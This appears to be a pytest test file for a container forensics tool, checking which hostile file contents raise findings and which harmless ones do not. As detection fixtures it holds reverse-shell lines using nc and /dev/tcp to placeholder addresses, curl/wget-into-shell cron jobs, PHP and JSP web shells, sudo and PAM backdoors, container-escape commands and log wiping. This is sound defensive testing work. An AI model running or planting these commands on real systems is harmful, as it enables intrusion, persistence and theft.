"""Each rule about files: where it must find something, how grave that is, and what harmless things it must leave alone."""

import base64
import hashlib
import struct
import time

import pytest

from forensics.findings.all import find
from support.scenes import OneContainer

ELF = bytes.fromhex("7f454c46020101000000000000000000") + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 0, 0, 0, 64, 0, 0, 64, 0, 0)
LIBRARY = ELF[:16] + b"\x03\x00" + ELF[18:]
PASSWD = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/:/usr/sbin/nologin\n"
UNSTRIPPED = ELF[:40] + struct.pack("<Q", 64) + ELF[48:60] + struct.pack("<HH", 1, 0) + struct.pack("<II", 0, 2) + bytes(56)
KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + b"A" * 40
CAP_SETUID = struct.pack("<IIIII", 0x02000001, 1 << 7, 0, 0, 0)
CAP_NET_RAW = struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0)
PRIVATE = b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAAB\n"
CONFIG = b'{"pools": [{"url": "example:3333", "coin": "monero"}], "donate-level": 1}'


@pytest.fixture
def web(tmp_path):
    return OneContainer(tmp_path / "case.db")


# rule, path, content, attributes, content of the image's file (None: it has none), its attributes, severity, words of the title
FOUND = [
    ("account", b"/etc/passwd", PASSWD + b"toor:x:0:0::/root:/bin/sh\n", {}, PASSWD, {}, "high", "account toor has uid 0"),
    ("account", b"/etc/passwd", PASSWD.replace(b"x:1:1", b"x:0:1"), {}, PASSWD, {}, "high", "account daemon has uid 0"),
    ("account", b"/etc/passwd", PASSWD + b"eve::1001:1001::/:/bin/sh\n", {}, PASSWD, {}, "high", "account eve needs no password"),
    ("account", b"/etc/passwd", PASSWD + b"eve:x:1001:1001::/:/bin/sh\n", {}, PASSWD, {}, "medium", "new account eve"),
    ("account", b"/etc/passwd", PASSWD + b"db:x:101:101::/:/bin/sh\n", {}, PASSWD, {}, "low", "new account db"),
    ("account", b"/etc/passwd", PASSWD + b"ntp:x:101:101::/:/bin/false\n", {}, PASSWD, {}, "info", "new account ntp"),
    ("account", b"/etc/passwd", PASSWD.replace(b"/usr/sbin/nologin", b"/bin/sh"), {}, PASSWD, {}, "medium", "daemon may log in"),
    ("password", b"/etc/shadow", b"root::1:0::::\n", {"mode": 0o640}, b"root:*:1:0::::\n", {"mode": 0o640}, "high",
     "no password"),
    ("password", b"/etc/shadow", b"root:$6$ab$c:1:0::::\n", {"mode": 0o640}, b"root:*:1:::::\n", {"mode": 0o640},
     "medium", "was set"),
    ("password", b"/etc/shadow", b"root:*:1:::::\n", {"mode": 0o644}, b"root:*:1:::::\n", {"mode": 0o640}, "medium",
     "may be read"),
    ("group", b"/etc/group", b"docker:x:9:eve\n", {}, b"docker:x:9:\n", {}, "medium", "group docker has new members: eve"),
    ("sudoers", b"/etc/sudoers.d/x", b"eve ALL=(ALL) NOPASSWD: ALL\n", {}, None, {}, "high", "new sudo rule for eve"),
    ("sudoers", b"/etc/sudoers", b"eve ALL=/bin/ls\n", {}, b"Defaults env_reset\n", {}, "medium", "new sudo rule for eve"),
    ("ssh-key", b"/root/.ssh/authorized_keys", KEY + b" intruder\n", {}, None, {}, "high", "ssh-ed25519 intruder"),
    ("ssh-key", b"/home/x/.ssh/authorized_keys", b'command="id" ' + KEY, {}, KEY[:-2] + b"zz admin", {}, "high",
     "without a comment"),
    ("sshd", b"/etc/ssh/sshd_config", b"PermitRootLogin yes\n", {}, b"PermitRootLogin no\n", {}, "medium", "PermitRootLogin yes"),
    ("cron", b"/var/spool/cron/crontabs/root", b"* * * * * /tmp/.x/run\n", {}, None, {}, "high", "runs /tmp/.x/run"),
    ("cron", b"/etc/cron.d/x", b"* * * * * root curl -s http://203.0.113.9/x | sh\n", {}, None, {}, "high",
     "download into a shell"),
    ("cron", b"/etc/cron.d/x", b"1 * * * * root /opt/run -o 203.0.113.9:3333\n", {}, None, {}, "high", "bare address"),
    ("cron", b"/etc/crontabs/root", b"1 2 * * * /app/backup.sh\n", {}, None, {}, "medium", "new cron job"),
    ("systemd-unit", b"/etc/systemd/system/x.service", b"[Service]\nExecStart=/dev/shm/x\n", {}, None, {}, "high",
     "systemd unit runs"),
    ("init-script", b"/etc/rc.local", b"#!/bin/sh\nnc -e /bin/sh 203.0.113.9 4444\n", {}, None, {}, "high", "connects a shell"),
    ("ld-preload", b"/etc/ld.so.preload", b"/usr/lib/libhide.so\n", {}, None, {}, "high", "put into every program"),
    ("shell-startup", b"/root/.bashrc", b"alias sudo='/tmp/.s'\n", {}, b"# image\n", {}, "high", "hijacks commands"),
    ("shell-startup", b"/root/.profile", b"export EDITOR=vi\n", {}, b"# image\n", {}, "low", "changed shell start-up file"),
    ("pam", b"/usr/lib/x86_64-linux-gnu/security/pam_x.so", LIBRARY, {}, None, {}, "high", "new PAM module"),
    ("pam", b"/etc/pam.d/sshd", b"auth sufficient pam_permit.so\n", {}, b"auth required pam_unix.so\n", {}, "high", "PAM lets"),
    ("python-startup", b"/usr/lib/python3/sitecustomize.py", b"import socket\n", {}, None, {}, "medium", "whenever it starts"),
    ("kernel-module", b"/lib/modules/6.1/x.ko", ELF, {}, None, {}, "high", "kernel module"),
    ("setuid", b"/bin/.rootsh", ELF, {"mode": 0o4755}, None, {}, "high", "new setuid program"),
    ("setuid", b"/bin/bash", ELF, {"mode": 0o4755}, ELF, {"mode": 0o755}, "high", "file of the image became setuid"),
    ("setuid", b"/bin/su", ELF + b"!", {"mode": 0o4755}, ELF, {"mode": 0o4755}, "high", "content of a setuid program changed"),
    ("setuid", b"/srv/x", ELF, {"mode": 0o2755}, None, {}, "medium", "new setgid program"),
    ("file-capability", b"/bin/py", ELF, {"mode": 0o755, "xattrs": {"security.capability": CAP_SETUID}}, None, {},
     "high", "SETUID"),
    ("file-capability", b"/bin/ping", ELF, {"mode": 0o755, "xattrs": {"security.capability": CAP_NET_RAW}}, None, {},
     "medium", "NET_RAW"),
    ("file-capability", b"/bin/x", ELF, {"mode": 0o755, "xattrs": {"security.capability": b"\x01"}}, None, {},
     "medium", "cannot be read"),
    ("new-program", b"/tmp/.x/miner", b"\0" * 99, {"mode": 0o755}, None, {}, "high", "hidden and temporary place"),
    ("new-program", b"/dev/shm/x", ELF, {"mode": 0o755}, None, {}, "high", "temporary place"),
    ("new-program", b"/tmp/build.sh", b"#!/bin/sh\n", {"mode": 0o755}, None, {}, "medium", "temporary place"),
    ("new-program", b"/tmp/libnetty.so", LIBRARY, {"mode": 0o755}, None, {}, "medium", "temporary place"),
    ("new-program", b"/usr/bin/ls", ELF + b"!", {"mode": 0o755}, ELF, {"mode": 0o755}, "high", "program of the image replaced"),
    ("new-program", b"/usr/bin/curl", ELF, {"mode": 0o755}, None, {}, "medium", "new program that no package lists"),
    ("new-program", b"/app/server", ELF, {"mode": 0o755}, None, {}, "low", "that no package lists"),
    ("packed-program", b"/tmp/x", ELF + b"UPX!" + bytes(99), {"mode": 0o755}, None, {}, "high", "packed with UPX"),
    ("packed-program", b"/tmp/x", ELF + hashlib.shake_256(b"x").digest(60_000), {"mode": 0o755}, None, {}, "high", "encrypted"),
    ("unstripped-program", b"/tmp/exploit", UNSTRIPPED, {"mode": 0o755}, None, {}, "medium", "with its symbols"),
    ("hidden-elf", b"/tmp/payload.bin", ELF, {"mode": 0o644}, None, {}, "medium", "in a temporary or hidden place"),
    ("download-pipe", b"/tmp/d.sh", b"#!/bin/sh\nwget -qO- http://198.51.100.7/x | bash\n", {}, None, {}, "high", "into a shell"),
    ("download-pipe", b"/opt/i.sh", b"curl -fsSL https://get.example.org/ | sudo bash -\n", {}, None, {}, "medium",
     "into a shell"),
    ("download-pipe", b"/opt/i.sh", b'bash -c "$(curl -fsSL https://x.example.org)"\n', {}, None, {}, "medium", "into a shell"),
    ("download-pipe", b"/opt/i.sh", b"echo aGk= | base64 -d | sh\n", {}, None, {}, "medium", "base64 hides"),
    ("download-pipe", b"/opt/i.sh", b"wget http://198.51.100.7/x -O /opt/x && chmod +x /opt/x\n", {}, None, {},
     "high", "executable"),
    ("reverse-shell", b"/opt/r.sh", b"bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", {}, None, {}, "high", "shell to the network"),
    ("web-shell", b"/var/www/x.php", b"<?php @eval($_POST['a']); ?>", {}, None, {}, "high", "runs what a visitor sends"),
    ("web-shell", b"/var/www/x.php", b"<?php eval(gzinflate(base64_decode('eA==')));", {}, None, {}, "high", "runs hidden code"),
    ("web-shell", b"/app/x.jsp", b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>', {}, None, {}, "high", "visitor"),
    ("miner", b"/opt/xmrig", ELF, {"mode": 0o755}, None, {}, "high", "miner's name: xmrig"),
    ("miner", b"/opt/x", ELF + b"stratum+tcp://pool.example:3333", {"mode": 0o755}, None, {}, "high", "mining pool"),
    ("miner", b"/opt/config.json", CONFIG, {}, None, {}, "high", "configuration of a miner"),
    ("escape", b"/x.sh", b"#!/bin/sh\necho /c > /tmp/cg/release_agent\n", {}, None, {}, "high", "release_agent"),
    ("escape", b"/x.sh", b"echo '|/x' > /proc/sys/kernel/core_pattern\n", {}, None, {}, "high", "core_pattern"),
    ("escape", b"/root/.bash_history", b"nsenter -t 1 -m sh\n", {}, None, {}, "high", "nsenter"),
    ("escape", b"/bin/sh", b"#!/proc/self/exe", {"mode": 0o755}, ELF, {"mode": 0o755}, "high", "runtime overwrite itself"),
    ("device-node", b"/tmp/sda", b"", {"type": "b", "rdev": "8:0", "mode": 0o600}, None, {}, "high", "block device"),
    ("device-node", b"/tmp/mem", b"", {"type": "c", "rdev": "1:1", "mode": 0o600}, None, {}, "high", "character device"),
    ("cleared-log", b"/root/.bash_history", b"", {}, b"id\n", {}, "medium", "history was emptied"),
    ("cleared-log", b"/var/log/wtmp", b"", {}, b"x" * 384, {}, "medium", "record of logins was emptied"),
    ("cleared-log", b"/root/.bash_history", b"", {"target": b"/dev/null"}, None, {}, "medium", "leads to /dev/null"),
    ("cleared-log", b"/var/log/app.log", b"", {}, b"x", {}, "low", "log was emptied"),
    ("trace-removal", b"/root/.bash_history", b"ls\nunset HISTFILE\n", {}, None, {}, "high", "history that removes traces"),
    ("trace-removal", b"/opt/c.sh", b"#!/bin/sh\nrm -f ~/.bash_history\n", {}, None, {}, "medium", "script that removes traces"),
    ("timestomp", b"/bin/ls", ELF + b"!", {"mtime_ns": 5, "mode": 0o755}, ELF, {"mtime_ns": 5}, "medium", "image's or older"),
    ("timestomp", b"/opt/x", ELF, {"mtime_ns": 10**18, "mode": 0o755}, None, {}, "low", "older than the container"),
    ("timestomp", b"/opt/x", b"x", {"mtime_ns": 2 * 10**18, "ctime_ns": 17 * 10**17}, None, {}, "low",
     "after it was last changed"),
    ("hiding-name", b"/tmp/.../x", b"x", {}, None, {}, "medium", "name that hides"),
    ("hiding-name", b"/tmp/a\x1b[2Jb", b"x", {}, None, {}, "medium", "name that hides"),
    ("secret-file", b"/root/id", PRIVATE, {}, None, {}, "medium", "openssh private key in a file"),
    ("secret-file", b"/root/.aws/credentials", b"[default]\n", {}, None, {}, "medium", "file of credentials"),
    ("secret-file", b"/app/.env", b"DB_PASSWORD=correct-horse\n", {}, None, {}, "medium", "DB_PASSWORD"),
    ("secret-file", b"/app/x.txt", b"key AKIAIOSFODNN7ABCDEFG\n", {}, None, {}, "medium", "AWS access key"),
]  # fmt: skip
HARMLESS = [
    (b"/etc/passwd", PASSWD, {}, PASSWD, {}),
    (b"/etc/passwd", PASSWD + b"broken line\n+::::::\nx:y:0\n", {}, PASSWD, {}),
    (b"/etc/shadow", b"root:*:2:::::\nnew:!:1:::::\n", {"mode": 0o640}, b"root:*:1:::::\n", {"mode": 0o640}),
    (b"/etc/sudoers", b"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
     {"mode": 0o440}, None, {}),
    (b"/root/.ssh/authorized_keys", KEY + b" a renamed comment\n", {}, KEY + b" admin\n", {}),
    (b"/etc/cron.d/.placeholder", b"# DO NOT EDIT\n", {}, None, {}),
    (b"/bin/busybox", ELF, {"mode": 0o755, "mtime_ns": 7}, ELF, {"mode": 0o755, "mtime_ns": 6}),
    (b"/usr/bin/passwd", ELF, {"mode": 0o4755}, ELF, {"mode": 0o4755}),
    (b"/srv/www/index.html", b"<h1>hi</h1>", {}, None, {}),
    (b"/srv/www/photo.jpg", bytes(range(256)) * 50, {"mode": 0o644}, None, {}),
    (b"/var/www/index.php", b"<?php echo htmlspecialchars($_GET['q']); system('ls'); ?>", {}, None, {}),
    (b"/app/.env", b"DB_HOST=db\nDB_PASSWORD_FILE=/run/secrets/db\nDEBUG=true\nTOKEN=\n", {}, None, {}),
    (b"/var/log/nginx/access.log", b"", {"target": b"/dev/stdout"}, None, {}),
    (b"/var/log/app.log", b"GET /curl | bash\n" * 9, {}, None, {}),
    (b"/tmp/data.csv", b"a,b\n1,2\n", {"mode": 0o644}, None, {}),
    (b"/dev/null", b"", {"type": "c", "rdev": "1:3", "mode": 0o666}, None, {}),
    (b"/root/.cache/pip/x", b"{}", {}, None, {}),
    (b"/srv/repo/.git/hooks/pre-commit.sample", b"# hook\n", {"mode": 0o644}, None, {}),
    (b"/etc/ld.so.preload", b"", {}, None, {}),
    (b"/docs/readme.md", b"Run `echo core > /proc/sys/kernel/core_pattern` on the host.\n", {}, None, {}),
    (b"/opt/wait.sh", b"#!/bin/sh\ncurl -fsS http://localhost:8080/health || exit 1\n", {"mode": 0o644}, None, {}),
    (b"/data/pool.conf", b"pool.ntp.org iburst\n", {}, None, {}),
]  # fmt: skip


@pytest.mark.parametrize("case", FOUND, ids=lambda case: f"{case[0]}-{case[7]}"[:50])
def test_found(web, case):
    rule, path, content, row, lower, lower_row, severity, words = case
    if lower is not None:
        web.below(path, lower, **dict(lower_row))
    web.add(path, content, **dict(row))
    found = web.found(rule)
    assert [(s, p) for s, title, p in found if words in title] == [(severity, path)], found


@pytest.mark.parametrize("case", HARMLESS, ids=lambda case: case[0].decode())
def test_harmless(web, case):
    path, content, row, lower, lower_row = case
    if lower is not None:
        web.below(path, lower, **dict(lower_row))
    web.add(path, content, **dict(row))
    assert web.found() == []


@pytest.mark.parametrize("case", FOUND, ids=lambda case: f"{case[0]}-{case[7]}"[:50])
def test_what_the_image_has_is_no_finding(web, case):
    rule, path, content, row, *_ = case
    web.below(path, content, **dict(row))
    assert web.found(rule) == []


def test_a_container_that_never_ran_has_no_finding_about_its_content(web):
    web.below(b"/tmp/.x/miner", ELF, mode=0o4755)
    web.below(b"/etc/ld.so.preload", b"/lib/x.so\n")
    assert web.found() == []


# -- packages


def dpkg(web, package, **files):
    """An installed package, as dpkg's database in the container's layer lists it."""
    paths = {path.encode(): content for path, content in files.items()}
    web.add(f"/var/lib/dpkg/info/{package}.list".encode(), b"/.\n" + b"\n".join(paths) + b"\n")
    sums = b"".join(hashlib.md5(c).hexdigest().encode() + b"  " + p[1:] + b"\n" for p, c in paths.items())
    web.add(f"/var/lib/dpkg/info/{package}.md5sums".encode(), sums)


def test_programs_of_packages_are_told_as_such(web):
    dpkg(web, "sudo", **{"/usr/bin/sudo": ELF, "/bin/tool": ELF + b"t"})
    web.add(b"/usr/bin/sudo", ELF, mode=0o4755)
    web.add(b"/usr/bin/tool", ELF + b"t", mode=0o755)  # /bin is /usr/bin
    assert {severity for severity, _title, _path in web.found()} == {"info"}


def test_a_program_that_is_not_as_its_package_has_it(web):
    dpkg(web, "coreutils", **{"/bin/ls": ELF})
    web.add(b"/bin/ls", ELF + b"!", mode=0o755)
    assert web.found("new-program") == [("high", "program is not as its package has it", b"/bin/ls")]


def test_apk_and_python_packages(web):
    z = base64.b64encode(hashlib.sha1(ELF).digest())
    web.add(b"/lib/apk/db/installed", b"P:curl\nV:8\nF:usr/bin\nR:curl\na:0:0:755\nZ:Q1" + z + b"\n\n")
    web.add(b"/usr/bin/curl", ELF, mode=0o755)
    digest = base64.urlsafe_b64encode(hashlib.sha256(LIBRARY).digest()).rstrip(b"=")
    web.add(b"/usr/lib/python3/site-packages/x-1.dist-info/RECORD", b"x/_x.so,sha256=" + digest + b",64\n../../../bin/x,,\n")
    web.add(b"/usr/lib/python3/site-packages/x/_x.so", LIBRARY, mode=0o755)
    web.add(b"/usr/bin/x", b"#!/usr/bin/python3\n", mode=0o755)
    assert [(severity, path) for severity, _title, path in web.found("new-program")] == [
        ("info", b"/usr/bin/curl")
    ]  # one for all


def test_forged_databases_cost_nothing(web):
    web.add(b"/var/lib/dpkg/info/x.md5sums", b"zz\n" + b"g" * 32 + b"  bin/ls\n" + b"\xff" * 100)
    web.add(b"/lib/apk/db/installed", b"R:\nZ:Q1!!!\nF:\xff\nR:x\nZ:Q1AAAA\n" * 5)
    web.add(b"/a/b.dist-info/RECORD", b'"' + b"," * 99 + b"\nx,sha256=%%%%\n")
    web.add(b"/bin/ls", ELF, mode=0o755)
    assert [severity for severity, _title, _path in web.found("new-program")] == ["medium"]


# -- many, and hostile


def test_many_of_one_kind_are_told_as_one(web):
    for number in range(40):
        web.add(f"/app/bin/t{number:02}".encode(), b"#!/bin/sh\n", mode=0o755)
    assert web.found("new-program") == [
        ("low", "new script or program that no package lists, and 39 more like it", b"/app/bin/t00")
    ]


@pytest.mark.parametrize("content", [
    b"curl " * 26_000, b"wget a;" * 18_000, b"$_GET[" * 20_000, b"eval(" * 25_000, b"a." * 65_000, b"password" * 16_000,
    b"-----BEGIN PRIVATE KEY-----\n" + b"a: b\n" * 20_000, b"/.a" * 43_000, b"\n" * 131_000, b"sh -c " * 21_000,
    b"docker run -v" * 10_000,
    b"AKIA" * 32_000, b"/docker/a/a/a/a" * 8_000, b"\xff\xfe" * 60_000, b"base64 -d" * 14_000, b'"' * 131_000,
    b"secret=" * 18_000,
])  # fmt: skip
def test_no_content_takes_long(web, content):
    for path in (b"/root/.bash_history", b"/var/www/x.php", b"/app/.env", b"/etc/cron.d/x", b"/etc/sudoers", b"/etc/passwd",
                 b"/root/.ssh/authorized_keys", b"/root/.bashrc", b"/etc/pam.d/x"):  # fmt: skip
        web.add(path, content)
    start = time.monotonic()
    web.found()
    assert time.monotonic() - start < 10


def test_contents_that_cannot_be_read(web):
    for path in (b"/etc/passwd", b"/tmp/.x/a", b"/bin/.b", b"/lib/x.so", b"/etc/cron.d/x"):
        number = web.add(path, b"x" * 50, mode=0o4755)
        (inode,) = web.builder.db.execute("SELECT inode FROM entry WHERE id = ?", (number,)).fetchone()
        del web.contents.files[inode]
    assert {path for severity, _title, path in web.found() if severity == "high"} >= {b"/tmp/.x/a", b"/bin/.b"}


def test_the_budget_is_kept(web):
    for number in range(20):
        web.add(f"/tmp/x{number}".encode(), ELF + bytes(1000), mode=0o755)
    scene = web.scene(budget=3000)
    assert list(find(scene))
    assert [gap.artefact for gap in scene.gaps] == ["findings"]
